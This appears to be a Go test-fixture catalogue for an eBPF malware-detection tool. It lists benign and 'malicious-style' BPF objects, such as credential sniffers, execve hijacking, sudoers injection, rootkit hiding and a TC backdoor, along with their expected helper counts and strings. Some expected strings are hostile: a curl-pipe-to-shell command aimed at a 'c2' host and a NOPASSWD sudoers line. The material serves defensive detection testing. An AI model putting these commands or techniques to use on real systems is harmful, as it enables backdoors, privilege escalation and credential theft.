package testprogs

import (
	"path/filepath"
	"runtime"

	"github.com/cilium/ebpf"
	"github.com/cilium/ebpf/asm"
)

// KernelNameLen is the longest program name the kernel keeps (BPF_OBJ_NAME_LEN
// less the terminating NUL); loaders silently cut longer names.
const KernelNameLen = 15

// Program is one program of an object.
type Program struct {
	// Name is the function's symbol in the ELF, the name loaders submit.
	Name    string
	Section string
	Type    ebpf.ProgramType
	// Insns counts the instruction slots submitted to the kernel (ld_imm64
	// takes two), sub-programs included.
	Insns int
	// Helpers counts helper call instructions in those slots (static counts,
	// sub-programs included, not calls made at run time).
	Helpers map[asm.BuiltinFunc]int
	// Kfuncs counts kfunc call instructions by kernel function name.
	Kfuncs map[string]int
	// Strings are texts an analyser should recover from the program (not
	// necessarily all of them).
	Strings []String
	// Loads tells whether the program loads on the reference host (Linux
	// 6.18, lockdown=integrity, no CONFIG_BPF_KPROBE_OVERRIDE).
	Loads bool
	// RefusedFor, for a program that does not load there, is what the load
	// error names as the reason: a helper the verifier refuses, or the errno
	// text when the kernel refuses the program type itself.
	RefusedFor string
}

// String is a text a program carries and how it carries it. Kinds use the
// analysis package's names: "stack" (stored on the stack from immediates),
// "compare" (a byte-compare chain: one load and conditional jump per
// character), "data" (a referenced .rodata/.data value), "format" (a
// bpf_trace_printk or bpf_snprintf format).
type String struct {
	Kind string
	Text string
}

// KernelName is the name the kernel stores for the program: Name cut to
// KernelNameLen bytes, as libbpf and cilium/ebpf submit it.
func (p Program) KernelName() string {
	if len(p.Name) > KernelNameLen {
		return p.Name[:KernelNameLen]
	}
	return p.Name
}

// Object is one compiled object under testdata/.
type Object struct {
	// File is the object's name under testdata/, e.g. "pamspy.bpf.o".
	File string
	// Malicious marks objects written to look like attack tools.
	Malicious bool
	// Imitates names the tool or technique a malicious-style object copies
	// the profile of; for benign objects, the kind of tool it stands for.
	Imitates string
	// License is the content of the license section, "" when there is none.
	License string
	// BTF tells whether the object has .BTF and .BTF.ext sections.
	BTF bool
	// LegacyMaps marks maps defined in the pre-BTF "maps" section, which
	// libbpf 1.0 and later (so bpftool) refuse; cilium/ebpf loads them.
	LegacyMaps bool
	// Programs in the object, in the order of their sections.
	Programs []Program
}

// Path returns the object's absolute path.
func (o Object) Path() string { return Path(o.File) }

// Loads tells whether every program of the object loads on the reference host.
func (o Object) Loads() bool {
	for _, p := range o.Programs {
		if !p.Loads {
			return false
		}
	}
	return true
}

// Program returns the object's program with the given ELF name.
func (o Object) Program(name string) (Program, bool) {
	for _, p := range o.Programs {
		if p.Name == name {
			return p, true
		}
	}
	return Program{}, false
}

// Dir is the absolute path of the repository's testdata/ folder.
func Dir() string {
	_, file, _, _ := runtime.Caller(0)
	return filepath.Join(filepath.Dir(file), "..", "..", "testdata")
}

// Path returns the absolute path of a file under testdata/, e.g.
// Path("pamspy.bpf.o").
func Path(name string) string { return filepath.Join(Dir(), name) }

// Lookup returns the listed object with the given file name.
func Lookup(file string) (Object, bool) {
	for _, o := range Objects {
		if o.File == file {
			return o, true
		}
	}
	return Object{}, false
}

// Benign returns the objects that default rules must not flag.
func Benign() []Object { return filter(false) }

// Malicious returns the malicious-style objects.
func Malicious() []Object { return filter(true) }

func filter(malicious bool) []Object {
	var out []Object
	for _, o := range Objects {
		if o.Malicious == malicious {
			out = append(out, o)
		}
	}
	return out
}

// ObjectLoaderRefuses lists the objects under testdata/ that cilium/ebpf's
// object loader refuses whole (weak maps, extern functions, an inner map it
// cannot parse, struct_ops); package program reads them directly and its
// tests check what it finds. They are benign.
var ObjectLoaderRefuses = []string{
	"externs.bpf.o", "externfunc.bpf.o", "mapinmap.bpf.o", "structops.bpf.o", "nobtfweak.bpf.o",
}

// BigInsns is the size of big.bpf.o's program. testdata/gen/bigprog makes
// programs of any size up to the kernel's 1,000,000 instructions
// (`make -C testdata big1m` builds one into testdata/build/).
const BigInsns = 100000

// Objects lists every object under testdata/. The sizes and call counts were
// read from the objects with llvm-objdump-19 and are checked again by this
// package's tests with cilium/ebpf.
var Objects = []Object{
	{
		File: "attach_targets.bpf.o", Malicious: true,
		Imitates: "malicious by position only: call counters that the attach tests put where a file hider (getdents64), a syscall spy (raw sys_enter) and a credential sniffer (uprobe on libpam) sit",
		License:  "GPL", BTF: true,
		Programs: []Program{
			{Name: "count_dirents", Section: "tracepoint/syscalls/sys_enter_getdents64", Type: ebpf.TracePoint, Insns: 12, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
			{Name: "count_raw", Section: "raw_tracepoint/sys_enter", Type: ebpf.RawTracepoint, Insns: 11, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
			{Name: "count_pam", Section: "uprobe", Type: ebpf.Kprobe, Insns: 12, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
		},
	},
	{
		File: "tailgraph.bpf.o", Imitates: "a two-stage XDP pipeline whose prog_array is initialised in the object (the tail-call graph inspect shows)",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "tg_stage2", Section: "xdp", Type: ebpf.XDP, Insns: 2, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{}},
			{Name: "tg_stage1", Section: "xdp", Type: ebpf.XDP, Insns: 6, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnTailCall: 1}},
		},
	},
	{
		File: "execsnoop.bpf.o", Imitates: "execsnoop (libbpf-tools): exec tracing",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "execsnoop_enter", Section: "tracepoint/syscalls/sys_enter_execve", Type: ebpf.TracePoint, Insns: 80, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentComm: 1, asm.FnGetCurrentPidTgid: 1, asm.FnGetCurrentTask: 1,
					asm.FnGetCurrentUidGid: 1, asm.FnMapUpdateElem: 1, asm.FnProbeReadKernel: 2, asm.FnProbeReadUserStr: 1}},
			{Name: "execsnoop_exit", Section: "tracepoint/syscalls/sys_exit_execve", Type: ebpf.TracePoint, Insns: 109, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapDeleteElem: 1, asm.FnMapLookupElem: 1,
					asm.FnRingbufReserve: 1, asm.FnRingbufSubmit: 1}},
		},
	},
	{
		File: "netcount.bpf.o", Imitates: "traffic accounting: XDP and tc packet counters",
		License: "Dual BSD/GPL", BTF: true,
		Programs: []Program{
			{Name: "xdp_count_proto", Section: "xdp", Type: ebpf.XDP, Insns: 42, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1, asm.FnMapUpdateElem: 1}},
			{Name: "tc_count_egress", Section: "tc", Type: ebpf.SchedCLS, Insns: 18, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
		},
	},
	{
		File: "lskelpayload.bpf.o", Imitates: "the payload of a light skeleton (lskel/payload-lskel): a raw tracepoint counter loaded by an in-kernel loader",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "lskel_payload", Section: "raw_tp/task_rename", Type: ebpf.RawTracepoint, Insns: 12, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
		},
	},
	{
		File: "cgroup.bpf.o", Imitates: "cgroup accounting (systemd, container runtimes)",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "cg_count_ingress", Section: "cgroup_skb/ingress", Type: ebpf.CGroupSKB, Insns: 12, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
			{Name: "cg_count_egress", Section: "cgroup_skb/egress", Type: ebpf.CGroupSKB, Insns: 12, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
			{Name: "cg_sock_create", Section: "cgroup/sock_create", Type: ebpf.CGroupSock, Insns: 22, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1, asm.FnMapUpdateElem: 1}},
		},
	},
	{
		File: "sockfilter.bpf.o", Imitates: "tcpdump-style socket filter with ld_abs/ld_ind",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "sockfilter_ssh", Section: "socket", Type: ebpf.SocketFilter, Insns: 25, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{}},
		},
	},
	{
		File: "globals.bpf.o", Imitates: "debugging tracer with .rodata/.data/.bss and printk formats",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "globals_count", Section: "tracepoint/syscalls/sys_enter_openat", Type: ebpf.TracePoint, Insns: 42, Loads: true,
				Strings: []String{{"compare", "/etc/"}},
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnProbeReadUserStr: 1}},
			{Name: "globals_print", Section: "tracepoint/syscalls/sys_enter_openat", Type: ebpf.TracePoint, Insns: 40, Loads: true,
				Strings: []String{{"format", "openat dfd=%d flags=%x"}, {"format", "%s"}, {"format", "%s: tgid %u opened %d files"}, {"data", "sentry-data"}},
				Helpers: map[asm.BuiltinFunc]int{asm.FnSnprintf: 1, asm.FnTracePrintk: 2}},
		},
	},
	{
		File: "nolicense.bpf.o", Imitates: "object without a license section",
		License: "", BTF: true,
		Programs: []Program{
			{Name: "nolic_xdp_pass", Section: "xdp", Type: ebpf.XDP, Insns: 12, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
			{Name: "nolic_sock_all", Section: "socket", Type: ebpf.SocketFilter, Insns: 14, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnKtimeGetNs: 1, asm.FnMapLookupElem: 1}},
		},
	},
	{
		File: "nobtf.bpf.o", Imitates: "pre-BTF object: no .BTF, legacy maps section",
		License: "GPL", BTF: false, LegacyMaps: true,
		Programs: []Program{
			{Name: "nobtf_sock_count", Section: "socket", Type: ebpf.SocketFilter, Insns: 14, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
			{Name: "nobtf_exec_count", Section: "tracepoint/sched/sched_process_exec", Type: ebpf.TracePoint, Insns: 12, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
		},
	},
	{
		File: "kfuncs.bpf.o", Imitates: "kfunc user: task references, RCU, open-coded iterator",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "kf_task_ref", Section: "tp_btf/sys_enter", Type: ebpf.Tracing, Insns: 24, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentTaskBtf: 1},
				Kfuncs: map[string]int{"bpf_rcu_read_lock": 1, "bpf_rcu_read_unlock": 1, "bpf_task_acquire": 1,
					"bpf_task_release": 2, "bpf_task_from_pid": 1}},
			{Name: "kf_count_iter", Section: "syscall", Type: ebpf.Syscall, Insns: 26, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{},
				Kfuncs:  map[string]int{"bpf_iter_num_new": 1, "bpf_iter_num_next": 2, "bpf_iter_num_destroy": 1}},
		},
	},
	{
		File: "staticprogs.bpf.o", Imitates: "static programs sharing .text sub-programs; two license strings",
		License: "GPL\x00Proprietary", BTF: true,
		Programs: []Program{
			// 4 + sp_add 7 + sp_mix 7, each program.
			// libbpf refuses static programs. cilium/ebpf loads none of
			// these: it keeps both license strings as one Go string with a
			// NUL inside, cannot pass it as a C string, and the kernel gets
			// no license pointer (EFAULT). Without the second string they
			// load.
			{Name: "sp_static_getpid", Section: "tracepoint/syscalls/sys_enter_getpid", Type: ebpf.TracePoint, Insns: 18, RefusedFor: "bad address",
				Helpers: map[asm.BuiltinFunc]int{asm.FnKtimeGetNs: 1}},
			{Name: "sp_static_getppid", Section: "tracepoint/syscalls/sys_enter_getppid", Type: ebpf.TracePoint, Insns: 18, RefusedFor: "bad address",
				Helpers: map[asm.BuiltinFunc]int{asm.FnKtimeGetNs: 1}},
			{Name: "sp_global_gettid", Section: "tracepoint/syscalls/sys_enter_gettid", Type: ebpf.TracePoint, Insns: 21, RefusedFor: "bad address",
				Helpers: map[asm.BuiltinFunc]int{asm.FnKtimeGetNs: 1, asm.FnGetCurrentPidTgid: 1}},
		},
	},
	{
		File: "subprogs.bpf.o", Imitates: "BPF-to-BPF calls (static and global) and bpf_loop",
		License: "GPL", BTF: true,
		Programs: []Program{
			// 7 + mix_twice 8 + mix_pid 7; the only helper call is in mix_pid.
			{Name: "sub_static_chain", Section: "tracepoint/syscalls/sys_enter_getpid", Type: ebpf.TracePoint, Insns: 22, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1}},
			// 11 + clamp_percent 11.
			{Name: "sub_global_func", Section: "tracepoint/syscalls/sys_enter_getppid", Type: ebpf.TracePoint, Insns: 22, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{}},
			// 16 + the callback add_index 11.
			{Name: "sub_loop_cb", Section: "tracepoint/syscalls/sys_enter_gettid", Type: ebpf.TracePoint, Insns: 27, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnLoop: 1}},
		},
	},
	{
		File: "atomics.bpf.o", Imitates: "every BPF_ATOMIC operation, 32 and 64 bit (-mcpu=v3)",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "atomics_all", Section: "syscall", Type: ebpf.Syscall, Insns: 96, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{}},
		},
	},
	{
		File: "cpuv4.bpf.o", Imitates: "cpu v4 instructions: movsx, ldsx, bswap, sdiv/smod, gotol, may_goto",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "cpuv4_all", Section: "syscall", Type: ebpf.Syscall, Insns: 53, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{}},
		},
	},
	{
		File: "acqrel.bpf.o", Imitates: "load-acquire/store-release at 8/16/32/64 bits (raw-encoded)",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "acqrel_all", Section: "syscall", Type: ebpf.Syscall, Insns: 14, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{}},
		},
	},
	{
		File: "big.bpf.o", Imitates: "a very large program (generated, straight-line)",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "big_straight", Section: "socket", Type: ebpf.SocketFilter, Insns: BigInsns, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetPrandomU32: 183}},
		},
	},
	{
		File: "pamspy.bpf.o", Malicious: true, Imitates: "pamspy: uprobe credential sniffer (the seed's pamspy pattern)",
		License: "GPL", BTF: true,
		Programs: []Program{
			// Exactly the seed's pamspy helper profile, each count met exactly.
			{Name: "det_pam_get_authtok", Section: "uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok", Type: ebpf.Kprobe, Insns: 69, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapLookupElem: 1, asm.FnProbeRead: 5,
					asm.FnMapDeleteElem: 1, asm.FnGetCurrentComm: 1, asm.FnRingbufReserve: 1, asm.FnRingbufSubmit: 1}},
			// Seed prefix and a subset of its helpers, but below its counts.
			{Name: "handle_pam_ret", Section: "uretprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok", Type: ebpf.Kprobe, Insns: 16, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapLookupElem: 1, asm.FnMapDeleteElem: 1}},
		},
	},
	{
		File: "evasion.bpf.o", Malicious: true, Imitates: "pamspy disguised: renamed, calls moved into sub-programs, split across a tail call",
		License: "GPL", BTF: true,
		Programs: []Program{
			// The pamspy profile exactly, under a name no seed pattern matches.
			{Name: "sshd_audit", Section: "uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok", Type: ebpf.Kprobe, Insns: 69, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapLookupElem: 1, asm.FnProbeRead: 5,
					asm.FnMapDeleteElem: 1, asm.FnGetCurrentComm: 1, asm.FnRingbufReserve: 1, asm.FnRingbufSubmit: 1}},
			// 65 + read_ptr 4 + read_cred 4: five bpf_probe_read calls at run
			// time from three call instructions.
			{Name: "det_pam_split", Section: "uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok", Type: ebpf.Kprobe, Insns: 73, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapLookupElem: 1, asm.FnProbeRead: 3,
					asm.FnMapDeleteElem: 1, asm.FnGetCurrentComm: 1, asm.FnRingbufReserve: 1, asm.FnRingbufSubmit: 1}},
			{Name: "det_pam_stage1", Section: "uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok", Type: ebpf.Kprobe, Insns: 51, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapLookupElem: 2, asm.FnProbeRead: 3,
					asm.FnMapDeleteElem: 1, asm.FnTailCall: 1}},
			{Name: "det_pam_stage2", Section: "uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok", Type: ebpf.Kprobe, Insns: 39, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1, asm.FnProbeRead: 2, asm.FnGetCurrentComm: 1,
					asm.FnRingbufReserve: 1, asm.FnRingbufSubmit: 1}},
		},
	},
	{
		File: "exechijack.bpf.o", Malicious: true, Imitates: "bad-bpf exechijack: execve path overwrite (the seed's exechijack pattern)",
		License: "GPL", BTF: true,
		Programs: []Program{
			// Exactly the seed's exechijack helper profile; 20-character name.
			{Name: "handle_execve_enter1", Section: "tracepoint/syscalls/sys_enter_execve", Type: ebpf.TracePoint, Insns: 119,
				Strings:    []String{{"format", "exechijack: write failed pid %d"}, {"format", "exechijack: pid %d now runs %s"}, {"data", "/a"}},
				RefusedFor: "bpf_probe_write_user",
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnGetCurrentTask: 1, asm.FnProbeReadKernel: 2,
					asm.FnProbeReadUser: 2, asm.FnTracePrintk: 2, asm.FnProbeWriteUser: 1, asm.FnRingbufReserve: 1, asm.FnRingbufSubmit: 1}},
		},
	},
	{
		File: "sudoers.bpf.o", Malicious: true, Imitates: "bad-bpf sudoadd: /etc/sudoers byte compare, stack-built line, user memory write",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "handle_openat_enter", Section: "tracepoint/syscalls/sys_enter_openat", Type: ebpf.TracePoint, Insns: 50, Loads: true,
				Strings: []String{{"compare", "/etc/sudoers"}},
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapUpdateElem: 1, asm.FnProbeReadUser: 1}},
			{Name: "handle_read_enter", Section: "tracepoint/syscalls/sys_enter_read", Type: ebpf.TracePoint, Insns: 16, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapLookupElem: 1}},
			{Name: "handle_read_exit", Section: "tracepoint/syscalls/sys_exit_read", Type: ebpf.TracePoint, Insns: 40,
				Strings:    []String{{"stack", "hacker ALL=(ALL:ALL) NOPASSWD:ALL #"}},
				RefusedFor: "bpf_probe_write_user",
				Helpers:    map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapDeleteElem: 1, asm.FnMapLookupElem: 1, asm.FnProbeWriteUser: 1}},
		},
	},
	{
		File: "filehide.bpf.o", Malicious: true, Imitates: "rootkit file hiding: one path buffer compared against two names (issue 16's merged chains)",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "hide_files", Section: "tracepoint/syscalls/sys_enter_openat", Type: ebpf.TracePoint, Insns: 85, Loads: true,
				Strings: []String{{"compare", "/tmp/.implant"}, {"compare", "/proc/modules"}},
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapUpdateElem: 1, asm.FnProbeReadUser: 1}},
		},
	},
	{
		File: "surface.bpf.o", Malicious: true, Imitates: "one program per technique of rules/defaults/surface.yaml: anti-kill LSM and fmod_ret, credential uprobes, TCP error trigger, TC backdoor",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "protect_implant", Section: "lsm/task_kill", Type: ebpf.LSM, Insns: 15,
				RefusedFor: "operation not permitted",
				Helpers:    map[asm.BuiltinFunc]int{asm.FnProbeReadKernel: 1}},
			{Name: "deny_kill", Section: "fmod_ret/__x64_sys_kill", Type: ebpf.Tracing, Insns: 10,
				RefusedFor: "operation not permitted",
				Helpers:    map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1}},
			{Name: "grab_sshd_pass", Section: "uprobe//usr/sbin/sshd:auth_password", Type: ebpf.Kprobe, Insns: 17, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnRingbufReserve: 1, asm.FnProbeReadUserStr: 1, asm.FnRingbufSubmit: 1}},
			{Name: "grab_crypt", Section: "uprobe//lib/x86_64-linux-gnu/libcrypt.so.1:crypt", Type: ebpf.Kprobe, Insns: 17, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnRingbufReserve: 1, asm.FnProbeReadUserStr: 1, asm.FnRingbufSubmit: 1}},
			{Name: "wake_on_bad_csum", Section: "tracepoint/tcp/tcp_bad_csum", Type: ebpf.TracePoint, Insns: 12, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
			{Name: "tc_backdoor", Section: "tc", Type: ebpf.SchedCLS, Insns: 30, Loads: true,
				Strings: []String{{"data", "/bin/sh -c 'curl -s http://c2/x | sh'"}},
				Helpers: map[asm.BuiltinFunc]int{asm.FnSkbLoadBytes: 1, asm.FnSkbStoreBytes: 1, asm.FnRingbufOutput: 1}},
		},
	},
	{
		File: "getdents_hide.bpf.o", Malicious: true, Imitates: "bad-bpf pidhide: getdents64 dirent hiding across a tail-call chain",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "handle_getdents_enter", Section: "tracepoint/syscalls/sys_enter_getdents64", Type: ebpf.TracePoint, Insns: 18, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapUpdateElem: 1}},
			{Name: "handle_getdents_exit", Section: "tracepoint/syscalls/sys_exit_getdents64", Type: ebpf.TracePoint, Insns: 26, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapDeleteElem: 1, asm.FnMapLookupElem: 1, asm.FnTailCall: 1}},
			{Name: "handle_dirent_scan", Section: "tracepoint/syscalls/sys_exit_getdents64", Type: ebpf.TracePoint, Insns: 100, Loads: true,
				Strings: []String{{"data", "31337"}},
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapDeleteElem: 1, asm.FnMapLookupElem: 1,
					asm.FnProbeReadUser: 1, asm.FnProbeReadUserStr: 1, asm.FnTailCall: 2}},
			{Name: "handle_dirent_patch", Section: "tracepoint/syscalls/sys_exit_getdents64", Type: ebpf.TracePoint, Insns: 47,
				RefusedFor: "bpf_probe_write_user",
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapDeleteElem: 1, asm.FnMapLookupElem: 1,
					asm.FnProbeReadUser: 2, asm.FnProbeWriteUser: 1}},
		},
	},
	{
		File: "antiforensics.bpf.o", Malicious: true, Imitates: "rootkit self-defence: bpf() syscall hook, SIGKILL via bpf_send_signal",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "watch_bpf_enum", Section: "tracepoint/syscalls/sys_enter_bpf", Type: ebpf.TracePoint, Insns: 32, Loads: true,
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentComm: 1, asm.FnGetCurrentPidTgid: 1, asm.FnRingbufReserve: 1, asm.FnRingbufSubmit: 1}},
			{Name: "kill_bpftool", Section: "tracepoint/syscalls/sys_enter_bpf", Type: ebpf.TracePoint, Insns: 27, Loads: true,
				Strings: []String{{"compare", "bpftool"}},
				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentComm: 1, asm.FnSendSignal: 1}},
		},
	},
	{
		File: "bpfhide.bpf.o", Malicious: true, Imitates: "rootkit hiding from BPF enumeration with lsm/bpf and fentry on bpf()",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "deny_bpf_enum", Section: "lsm/bpf", Type: ebpf.LSM, Insns: 158,
				Strings:    []String{{"data", "rootkitd"}},
				RefusedFor: "operation not permitted",
				Helpers:    map[asm.BuiltinFunc]int{asm.FnGetCurrentComm: 1}},
			{Name: "spy_bpf_calls", Section: "fentry/__x64_sys_bpf", Type: ebpf.Tracing, Insns: 23,
				RefusedFor: "operation not permitted",
				Helpers:    map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1, asm.FnProbeReadKernel: 1}},
		},
	},
	{
		File: "override.bpf.o", Malicious: true, Imitates: "error injection: getdents64 kprobe with bpf_override_return",
		License: "GPL", BTF: true,
		Programs: []Program{
			{Name: "block_getdents", Section: "kprobe/__x64_sys_getdents64", Type: ebpf.Kprobe, Insns: 22,
				RefusedFor: "bpf_override_return",
				Helpers:    map[asm.BuiltinFunc]int{asm.FnGetCurrentComm: 1, asm.FnOverrideReturn: 1}},
		},
	},
}
